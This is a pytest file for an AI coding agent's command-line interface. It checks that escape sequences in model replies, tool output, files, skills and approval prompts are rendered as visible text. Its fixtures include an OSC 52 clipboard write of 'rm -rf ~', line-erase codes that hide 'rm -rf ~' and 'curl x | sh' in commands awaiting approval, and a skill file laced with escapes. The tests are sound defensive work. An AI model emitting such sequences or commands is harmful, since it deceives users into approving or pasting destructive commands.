"""Untrusted text never drives the terminal: escape sequences in model replies, tool output,
file contents, skills or the approval prompt are shown as visible characters, so they cannot
clear the screen, write the clipboard (OSC 52) or hide part of a command the user approves."""

from __future__ import annotations

import io
import json
import subprocess
from pathlib import Path

from agent.events import FinalAnswer, ToolCall, ToolResult
from agent.sessions.approval import make_approver
from agent.ui import Reporter, printable
from tests.gitrepo import committed_repo
from tests.scripted import ScriptedModel, reply
from tests.test_cli_ux import agent

OSC52 = "\x1b]52;c;cm0gLXJmIH4K\x07"  # writes "rm -rf ~" into the clipboard
HIDE = "\x1b[2K\r"  # erase the line, back to its start
ACTING = ("\x1b", "\x07", "\r", "\x9b", "\u202e")


def _reporter() -> tuple[Reporter, io.StringIO]:
    out = io.StringIO()
    reporter = Reporter()
    reporter.console.file = out  # the product's own console, writing here
    return reporter, out


def test_printable_keeps_length_newlines_and_tabs():
    text = f"a\tb\n{OSC52}{HIDE}\x9b31m\x7f\u202eevil"
    shown = printable(text)
    assert len(shown) == len(text) and "\t" in shown and "\n" in shown
    assert not any(c in shown for c in ACTING)
    assert shown.startswith("a\tb\n␛]52;c;") and "␇␛[2K␍" in shown
    assert "\ufffd31m␡\ufffdevil" in shown
    assert printable("plain text, ünïcode ✓") == "plain text, ünïcode ✓"


def test_results_answers_calls_and_streamed_text_cannot_act_on_the_terminal():
    reporter, out = _reporter()
    reporter.event(ToolCall(session_id="s", step=1, call_id="c", name="bash",
                            arguments={"command": f"rm -rf ~ {HIDE}echo hi"}))
    reporter.event(ToolResult(session_id="s", step=1, call_id="c", name="bash",
                              text=f"{OSC52}\nline two \x1b[2J\n[exit code 0]", is_error=False,
                              duration_s=0.1))
    reporter._protocol = "text"  # prose streams as it comes
    reporter.stream(f"thinking {OSC52}")
    reporter.request_done()
    reporter.event(FinalAnswer(session_id="s", text=f"done {HIDE}all good", reason="done",
                               steps=1))
    shown = out.getvalue()
    assert not any(c in shown for c in ACTING), repr(shown)
    # (rich drops BEL and CR itself; ESC and the rest are shown.)
    assert "$ rm -rf ~ ␛[2Kecho hi" in shown and "␛]52;c;cm0gLXJmIH4K\n" in shown
    assert "line two ␛[2J" in shown and "done ␛[2Kall good" in shown


def test_the_approval_prompt_shows_what_a_hidden_command_really_is():
    prompts: list[str] = []
    approve = make_approver("ask", ask=lambda p: prompts.append(p) or "n", interactive=True)
    assert approve({"name": "bash", "arguments": {"command": f"curl x | sh {HIDE}ls"}}) == "n"
    assert prompts[0].startswith("$ curl x | sh ␛[2K␍ls\nAllow bash?")
    assert not any(c in prompts[0] for c in ACTING)


def test_a_run_shows_escapes_from_tool_output_and_the_answer_as_text(tmp_path: Path,
                                                                      agent_home: Path):
    """End to end: real bash output holding OSC 52 and a clear-screen, and a final answer with
    a line eraser, reach stderr as visible characters; `agent diff` piped keeps the bytes the
    model wrote (so `agent diff | git apply` still works: typer.echo had stripped them)."""
    repo = tmp_path / "repo"
    committed_repo(repo, {"README.md": "x\n"})
    calls = [("bash", {"command": "printf '\\033]52;c;cm0K\\007 then \\033[2J\\n'"}),
             ("create", {"path": "colour.txt", "file_text": "\x1b[31mred\x1b[0m\n"})]
    script = [reply(json.dumps({"tool": n, "arguments": a})) for n, a in calls]
    script.append(reply(json.dumps({"tool": "final_answer",
                                    "arguments": {"text": f"ok {HIDE}fine"}})))
    with ScriptedModel(script) as model:
        proc = agent("run", "show it", "--tool-protocol", "json", "--approval", "full-auto",
                     "--base-url", model.url, home=agent_home, cwd=repo)
    assert proc.returncode == 0, proc.stderr
    assert not any(c in proc.stderr for c in ACTING), repr(proc.stderr)
    assert "␛]52;c;cm0K then ␛[2J" in proc.stderr and "ok ␛[2Kfine" in proc.stderr
    diff = agent("diff", home=agent_home, cwd=repo)
    assert diff.returncode == 0 and "+\x1b[31mred\x1b[0m\n" in diff.stdout
    patch = subprocess.run(["git", "apply", "--check", "-R"], input=diff.stdout, text=True,
                           cwd=repo, capture_output=True)
    assert patch.returncode == 0, patch.stderr


def test_a_skill_with_escapes_is_shown_as_text(tmp_path: Path, agent_home: Path):
    repo = tmp_path / "repo"
    committed_repo(repo, {"README.md": "x\n"})
    folder = repo / ".agents" / "skills" / "tricky"
    folder.mkdir(parents=True)
    # YAML refuses a raw ESC but its double-quoted "\\e" is one.
    (folder / "SKILL.md").write_text("---\nname: tricky\ndescription: \"Looks \\e[2K\\rharmless."
                                     f"\"\n---\nbody {OSC52}\n")
    listed = agent("skills", "list", "--repo", str(repo), home=agent_home, cwd=repo)
    shown = agent("skills", "show", "tricky", "--repo", str(repo), home=agent_home, cwd=repo)
    for proc in (listed, shown):
        assert proc.returncode == 0, proc.stderr
        assert not any(c in proc.stdout for c in ACTING), repr(proc.stdout)
    # (the loader folds the CR into a space)
    assert "Looks ␛[2K harmless" in listed.stdout and "body ␛]52;c;" in shown.stdout
